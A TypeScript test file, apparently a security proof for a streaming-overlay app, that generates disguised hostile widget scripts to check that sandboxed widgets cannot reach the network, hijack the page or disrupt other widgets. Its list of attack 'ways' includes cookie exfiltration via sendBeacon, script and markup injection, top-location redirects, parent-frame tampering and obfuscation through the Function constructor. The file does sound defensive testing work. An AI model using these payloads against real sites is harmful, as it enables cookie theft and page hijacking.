import { englishOf } from '../../src/kernel/text/store-text.ts'
import type { StageWidget } from '../../src/registry/overlay-messages.ts'
import { launchChromium } from '../browser/chromium.ts'
import { hostileEffect, type Outside } from '../browser/hostile-effect.ts'
import { openOverlay } from '../browser/overlay-browser.ts'
import { createStageServer } from '../browser/overlay-stage.ts'
import { startTrap } from '../browser/trap.ts'
import { eventually } from '../eventually.ts'
import type { Proof } from './proof.ts'
import { createRandom, type Random } from './random.ts'

const place = { x: 50, y: 50, width: 40, height: 40, rotation: 0, layer: 0 }
const neighbour = 1
/** Long enough for what an attack begins, in milliseconds. */
const lastsMs = 250

/**
 * Shows custom widgets whose code attacks: each takes some ways to the network, to the page and to other widgets, each way
 * in some disguise. Nothing may arrive outside, the page stays where it is, and the widget beside it goes on.
 */
export const widgetAttacks: Proof = {
  name: 'widget-attacks',
  promise: 'Code of a widget that attacks reaches no network, no page and no other widget.',
  unit: 'attacks',
  fullCount: 10_000,
  engines: ['sqlite'],

  async run({ seed, faults, goesOn }) {
    const random = createRandom(seed)
    const trap = await startTrap()
    const stage = await createStageServer()
    const browser = await launchChromium()
    const sum = { ways: 0, 'left their frame': 0, failed: 0 }
    let sequence = 0
    try {
      const context = await browser.newContext({ viewport: { width: 1280, height: 720 } })
      await context.addCookies([{ name: 'session', value: 'secret', url: stage.url }])
      const { page } = await openOverlay(context, stage.link)
      const goal: StageWidget = {
        ...{ id: neighbour, type: 'goal', settings: { target: 1_000_000 }, place },
        sources: [{ source: 'goal', key: 'goal{}' }],
      }
      for (let done = 0; goesOn(done); done++) {
        if (done % 100 === 0) await trap.check()
        const id = done + 2
        const { js, ways } = attackWith(random, trap.outside)
        stage.send({ type: 'widgets', widgets: [goal, { id, type: 'custom', settings: { js }, place, sources: [] }] })
        const ended = await stage.reported(`widget_${id}`, 'warning')
        if ('reason' in ended && englishOf(ended.reason).includes('leave')) sum['left their frame']++
        else sum.failed++
        sum.ways += ways
        stage.send({ type: 'source', key: 'goal{}', seq: ++sequence, data: { value: done + 1, unit: null } })
        const shown = new Intl.NumberFormat('en').format(done + 1)
        await eventually('the widget beside it to go on', async () =>
          ((await page.locator(`[data-id="widget_${neighbour}"]`).textContent()) ?? '').includes(shown),
        ).catch(() => faults.add(`the widget beside it stopped after ${js}`))
        if (trap.caught.length > 0) faults.add(`${trap.caught.join()} got out by ${js}`)
        if (page.url() !== stage.link || context.pages().length !== 1) faults.add(`the page was changed by ${js}`)
        const marks = await page.evaluate(() => Object.keys(globalThis).filter((name) => name.startsWith('attacked')))
        if (marks.length > 0) faults.add(`${marks} is in the page after ${js}`)
      }
      return sum
    } finally {
      await browser.close()
      await stage.close()
      trap.close()
    }
  },
}

/** Each may throw. `base` and `stun` lead outside. */
const ways = [
  `new Image().src = base + '/image'`,
  `await fetch(base + '/fetch', { mode: 'no-cors' })`,
  `await fetch('/overlay')`,
  `const request = new XMLHttpRequest(); request.open('GET', base + '/xhr'); request.send()`,
  `new WebSocket(base.replace('http', 'ws') + '/socket')`,
  `new EventSource(base + '/events')`,
  `navigator.sendBeacon(base + '/beacon', document.cookie)`,
  `await new Audio(base + '/audio').play()`,
  `await new FontFace('x', 'url(' + base + '/font)').load()`,
  `await import(base + '/module.js')`,
  `new Worker(URL.createObjectURL(new Blob(['fetch("' + base + '")'])))`,
  `put('<img src="' + base + '/markup"><video autoplay src="' + base + '/video"></video>')`,
  `put('<link rel="preconnect" href="' + base + '"><link rel="stylesheet" href="' + base + '/sheet">')`,
  `put('<iframe src="' + base + '/frame"></iframe><object data="' + base + '/object"></object>')`,
  `put('<svg><image href="' + base + '/svg"/><use href="' + base + '/use#x"/></svg>')`,
  `put('<style>@import "' + base + '/import"; p { background: url(' + base + '/css) }</style><p>x</p>')`,
  `put('<img src="data:," onerror="fetch(' + JSON.stringify(base) + ')">')`,
  `put('<meta http-equiv="refresh" content="0;url=' + base + '">')`,
  `put('<base href="' + base + '/"><img src="relative">')`,
  `document.write('<link rel="preload" as="image" href="' + base + '/written">')`,
  `const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer())`,
  `const script = document.createElement('script'); script.src = base + '/script'; document.body.append(script)`,
  `const form = document.createElement('form'); form.action = base + '/form'; document.body.append(form); form.submit()`,
  `const link = document.createElement('a'); link.href = base; link.target = '_blank'; link.click()`,
  `const link = document.createElement('a'); link.href = '#'; link.ping = base + '/ping'; document.body.append(link); link.click()`,
  `window.open(base + '/open')`,
  `location.href = base + '/location'`,
  `top.location = base + '/top'`,
  `await new WebTransport(base.replace('http:', 'https:')).ready`,
  `parent.attacked1 = true; top.attacked2 = true; parent.document.body.remove()`,
  `for (let at = 0; at < 9; at++) parent.frames[at].postMessage({ type: 'done' }, '*')`,
  `for (let at = 0; at < 2_000; at++) parent.postMessage({ type: 'error', reason: 'x'.repeat(1_000) }, '*')`,
  `localStorage.attacked = 1; sessionStorage.attacked = 1; document.cookie = 'attacked=1'`,
  `obsstudio.stopStreaming()`,
]

/** How the code comes to run. */
const disguises: readonly ((code: string) => string)[] = [
  (code) => code,
  (code) => `await new Promise((go) => later(go, 20)); ${code}`,
  (code) => `queueMicrotask(async () => { try { ${code} } catch {} })`,
  (code) => `await new (async () => {}).constructor('base', 'stun', 'put', ${JSON.stringify(code)})(base, stun, put)`,
  (code) =>
    `const host = document.createElement('div'); document.body.append(host); const root = host.attachShadow({ mode: 'closed' }); root.innerHTML = '<p></p>'; ${code}`,
  (code) =>
    `const target = new EventTarget(); target.addEventListener('x', async () => { try { ${code} } catch {} }); target.dispatchEvent(new Event('x'))`,
  (code) => `Object.prototype.attacked = Array.prototype.attacked = () => { throw new Error('taken') }; ${code}`,
  (code) =>
    `new MutationObserver(async () => { try { ${code} } catch {} }).observe(document.body, { attributes: true }); document.body.dataset.x = '1'`,
]
const lies = [undefined, { answer: null }, { answer: true }, { answer: '' }] as const

function attackWith(random: Random, outside: Outside): { js: string; ways: number } {
  // In one of ten attacks every function of the browser is replaced first.
  if (random.between(1, 10) === 1) return { js: hostileEffect(outside, random.pick(lies)), ways: 1 }
  const chosen = Array.from({ length: random.between(1, 5) }, () => random.pick(disguises)(random.pick(ways)))
  const attempts = chosen.map((code) => `(async () => { try { ${code} } catch {} })()`).join('\n')
  const js = `const later = setTimeout
    const { base, stun } = ${JSON.stringify(outside)}
    const put = (html) => { const box = document.createElement('div'); box.innerHTML = html; document.body.append(box) }
    later(() => { throw new Error('over') }, ${lastsMs})
    ${attempts}`
  return { js, ways: chosen.length }
}
